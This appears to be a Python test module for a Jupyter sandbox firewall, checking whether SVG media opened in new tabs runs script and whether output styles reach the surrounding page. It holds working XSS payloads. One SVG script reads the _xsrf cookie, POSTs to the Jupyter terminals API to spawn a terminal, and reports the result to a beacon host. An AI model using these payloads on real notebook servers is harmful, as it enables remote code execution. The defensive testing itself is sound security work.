"""Issue 32's phases of the firewall's browser test: media opened in a new tab, and styles
that would reach outside their output.

Cells (run in the sandbox kernel like the rest of the corpus) show media
widgets whose bytes are documents: an SVG with a ``<script>`` that marks the
tab, asks the beacon for ``/nt-*`` and tries to create a terminal through the
Jupyter API with the ``_xsrf`` cookie; an SVG with only an ``onload``
handler; an SVG that calls itself a PNG; and a real PNG.  After a phase has
settled, :func:`open_media_in_new_tabs` opens the ``src`` of every ``img``,
``video`` and ``audio`` element of the page in a new tab, as "Open image in
new tab" does, and counts the tabs whose script ran.  :func:`style_cell` shows
``<style>`` rules aimed at the page (``#main``, the toolbar, the editors, the
firewall's notices) behind a first selector of the output's own;
:func:`restyled_outside_outputs` counts the page's elements they reached.
"""

from __future__ import annotations

import json
import urllib.request

# Absolute addresses: a blob: document cannot resolve relative ones (its URL is no base).
_SCRIPT = ("window.__sk_nt=1;fetch('http://{beacon}/nt-{tag}',{{mode:'no-cors'}});"
           "var x=document.cookie.match(/_xsrf=([^;]+)/);"
           "fetch(location.origin+'/api/terminals',{{method:'POST',credentials:'same-origin',"
           "headers:{{'X-XSRFToken':x?decodeURIComponent(x[1]):''}}}})"
           ".then(function(r){{fetch('http://{beacon}/nt-term-'+r.status,{{mode:'no-cors'}});}});")


def media_cells(beacon: str) -> list[str]:
    """Notebook cells showing media widgets whose bytes would run as a same-origin page."""
    script = _SCRIPT.format(beacon=beacon, tag="script")
    svg_script = ('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20"><script><![CDATA['
                  + script + ']]></script><rect width="20" height="20"/></svg>')
    svg_onload = ('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20" '
                  f'onload="fetch(\'http://{beacon}/nt-onload\',{{mode:\'no-cors\'}})"><rect width="9" height="9"/></svg>')
    return [
        "import ipywidgets as _w, base64 as _b\n"
        f"display(_w.Image(value={svg_script.encode()!r}, format='svg+xml'))\n"
        f"display(_w.Image(value={svg_onload.encode()!r}, format='svg+xml'))\n"
        f"_lie = _w.Image(value=b'', format='png'); display(_lie); _lie.value = {svg_script.encode()!r}\n"
        "_late = _w.Image(value=b'', format='png'); display(_late)\n"
        f"_late.format = 'svg+xml'; _late.value = {svg_onload.encode()!r}\n"
        "display(_w.Image(value=_b.b64decode('iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4"
        "z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC'), format='png'))",
    ]


_SOURCES_JS = """() => [...document.querySelectorAll('img, video, audio, video source, audio source')]
  .map(e => e.currentSrc || e.src).filter(s => s && !s.startsWith('about:'))"""


def open_media_in_new_tabs(page, guard, settle_ms: int) -> tuple[list[str], list[str], list[str]]:
    """Open every media element's ``src`` of the notebook ``page`` in a new tab.

    Parameters
    ----------
    page : playwright Page
        The notebook's page; the tabs open in its browser context.
    guard : callable
        The route handler that keeps the new tabs on loopback.
    settle_ms : int
        How long each tab gets for its scripts before it is read.

    Returns
    -------
    (list of str, list of str, list of str)
        The sources opened, the sources whose tab ran script (``window.__sk_nt``), and
        each tab's scheme and content type (``"blob image/png"``).
    """
    sources = sorted(set(page.evaluate(_SOURCES_JS)))
    ran, types = [], []
    for src in sources:
        if not src.startswith(("blob:", "data:")):
            continue  # an address the page loads: the corpus's beacon counts those already
        tab = page.context.new_page()
        tab.route("**/*", guard)
        try:
            tab.goto(src, wait_until="load", timeout=30_000)
            tab.wait_for_timeout(settle_ms)
            if tab.evaluate("() => !!window.__sk_nt"):
                ran.append(src[:80])
            types.append(f"{src.split(':')[0]} {tab.evaluate('() => document.contentType')}")
        except Exception as err:  # a download or a broken media page is not a script run
            types.append(f"{src.split(':')[0]} error: {type(err).__name__}")
        finally:
            tab.close()
    return sources, ran, types


def terminals(base: str, token: str) -> list[str]:
    """The names of the Jupyter server's terminals (its own REST API)."""
    with urllib.request.urlopen(f"{base}/api/terminals?token={token}") as r:
        return [t["name"] for t in json.loads(r.read())]


def delete_terminals(base: str, token: str, names: list[str]) -> None:
    """Delete the terminals ``names`` (the control's, so none outlives the test)."""
    for name in names:
        req = urllib.request.Request(f"{base}/api/terminals/{name}?token={token}", method="DELETE")
        urllib.request.urlopen(req).read()


#: The colour the style payloads paint with: no element of the page has it on its own.
MARK = "rgb(1, 2, 3)"


def style_cell() -> str:
    """A cell whose ``<style>`` aims at the page behind a selector of its own output."""
    rules = [
        ".mine, #main, .jp-Toolbar, .jp-Cell, .cm-content, .jp-OutputArea-output pre",
        ":is(.mine, body) *", ":where(.mine) ~ *, :not(.mine)", ".mine:has(b), .lm-Widget",
        ".mine b",  # kept (scoped): it paints inside the output's wrapper only
    ]
    sheet = " ".join(f"{r} {{background-color: {MARK} !important; color: {MARK} !important;"
                     " opacity: 0 !important}" for r in rules)
    sheet += f" @media screen {{ .mine, .jp-Notebook {{background-color: {MARK} !important}} }}"
    html = f'<style>{sheet}</style><div class="mine"><b>styled</b></div>'
    return f"from IPython.display import HTML\nHTML({html!r})"


_RESTYLED_JS = """(mark) => [...document.querySelectorAll('body, body *')]
  .filter(e => !e.closest('[class*="sbk-out-"]'))
  .filter(e => { const s = getComputedStyle(e);
                 return s.backgroundColor === mark || s.color === mark
                        || (s.opacity === '0' && e.textContent.includes('sandbox-kernel: removed')); })
  .map(e => e.tagName.toLowerCase() + (e.id ? '#' + e.id : '') + '.' + [...e.classList].slice(0, 2).join('.'))"""


def restyled_outside_outputs(page) -> list[str]:
    """Elements of ``page`` outside every output's style wrapper that the style cell painted,
    and notices it made transparent: ``tag#id.class1.class2`` each."""
    return page.evaluate(_RESTYLED_JS, MARK)
